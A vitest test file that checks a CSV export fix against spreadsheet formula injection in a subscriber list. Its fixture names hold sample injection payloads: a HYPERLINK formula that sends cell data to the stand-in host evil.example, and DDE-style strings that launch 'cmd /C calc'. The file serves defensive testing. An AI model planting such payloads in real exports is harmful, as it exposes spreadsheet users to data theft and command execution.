// CSV formula injection: a subscriber named `=HYPERLINK(…)` was exported as it is, and a spreadsheet opening the
// export (the CLI's `subscribers export` or /admin/subscribers.csv, both exportSubscribers) ran it. Now every field a
// spreadsheet would run gets a leading `'`, and import takes it off again: import → export → import keeps the values.
import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvWriter, readCsv } from '../../src/adapters/csv.ts';
import { exportSubscribers, importSubscribers } from '../../src/subscribers/index.ts';
import { testDialects, useTestStore } from '../helpers/db.ts';

const NOW = new Date('2026-11-30T04:00:00Z');

// The rule spreadsheets (Excel, LibreOffice, Google Sheets, Numbers) apply to a cell they read from a CSV.
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Every cell of a CSV text, the header row included, as a spreadsheet reads it (no unescaping). */
async function cells(text: string): Promise<string[]> {
  const out: string[] = [];
  for await (const row of readCsv(Readable.from([text]), { onHeader: (names) => out.push(...names) })) {
    if ('error' in row) throw new Error(`line ${row.line}: ${row.error}`);
    out.push(...Object.values(row.fields).filter((v): v is string => v !== undefined));
  }
  return out;
}

async function collect(write: (out: PassThrough) => Promise<unknown>): Promise<string> {
  const out = new PassThrough();
  let text = '';
  out.setEncoding('utf8').on('data', (s: string) => (text += s));
  await write(out);
  return text;
}

/** `rows` as CSV, written by csvWriter; `escapeFormulas` as an export writes them. */
function csvOf(columns: string[], rows: Record<string, string>[], escapeFormulas: boolean): Promise<string> {
  return collect(async (out) => {
    const writer = csvWriter(columns, { escapeFormulas });
    writer.pipe(out);
    for (const row of rows) writer.write(row);
    writer.end();
    await new Promise((resolve) => out.on('end', resolve));
  });
}

// names a spreadsheet would run, and ones that look escaped already (they must come back with their quotes, so the
// list is first imported from an export of them)
const PEOPLE: [email: string, name: string][] = [
  ['-x@example.org', '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'],
  ['+y@example.org', '+1 555 0100'],
  ['=z@example.org', "-2+3+cmd|' /C calc'!A0"],
  ['at@example.org', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['full@example.org', '\uFF1D1+1'],
  ['quoted@example.org', "'=already quoted"],
  ['twice@example.org', "''+twice"],
  ['plain@example.org', "O'Brien = plain"],
];

describe.each(testDialects())('subscribers export and formulas on %s', (dialect) => {
  const t = useTestStore(dialect);
  const stored = async () =>
    (await t().store.db.selectFrom('subscribers').select(['email', 'name']).orderBy('id').execute()).map((r) => [
      r.email,
      r.name,
    ]);
  const source = () =>
    csvOf(
      ['email', 'name'],
      PEOPLE.map(([email, name]) => ({ email, name })),
      true,
    );

  it('exports no cell a spreadsheet would run, and import → export → import keeps every name and address', async () => {
    const report = await importSubscribers(t().store, Readable.from([await source()]), { now: NOW });
    expect(report.added).toBe(PEOPLE.length);
    expect(await stored()).toEqual(PEOPLE);

    const exported = await collect((out) => exportSubscribers(t().store, out));
    const all = await cells(exported);
    expect(all.filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(exported).toContain(`'-x@example.org`);

    // import the export into the same store, updating: no name may change
    const again = await importSubscribers(t().store, Readable.from([exported]), { now: NOW, update: true });
    expect(again).toMatchObject({ added: 0, updated: 0, existing: PEOPLE.length });
    expect(await stored()).toEqual(PEOPLE);

    // and a second export is byte for byte the first
    expect(await collect((out) => exportSubscribers(t().store, out))).toBe(exported);
  });

  it('imports the export into an empty list with the real values', async () => {
    await importSubscribers(t().store, Readable.from([await source()]), { now: NOW });
    const exported = await collect((out) => exportSubscribers(t().store, out));
    await t().store.db.deleteFrom('subscribers').execute();
    await importSubscribers(t().store, Readable.from([exported]), { now: NOW });
    expect(await stored()).toEqual(PEOPLE);
  });
});

describe('csvWriter with escapeFormulas', () => {
  it('escapes a field that starts with a tab or a carriage return, and readCsv takes the escape off', async () => {
    const values = ['\tcmd', '\r=1+1', '=1', 'plain', "'", "'x", "'\t"];
    const text = await csvOf(
      ['v'],
      values.map((v) => ({ v })),
      true,
    );
    expect((await cells(text)).filter((cell) => FORMULA.test(cell))).toEqual([]);
    // without the option (as before the fix) they are written as they are
    const unescaped = await csvOf(
      ['v'],
      values.map((v) => ({ v })),
      false,
    );
    expect((await cells(unescaped)).filter((cell) => FORMULA.test(cell))).toHaveLength(3);
    const back: string[] = [];
    for await (const row of readCsv(Readable.from([text]), { unescapeFormulas: true }))
      if ('fields' in row) back.push(row.fields.v ?? '');
    expect(back).toEqual(values);
  });
});
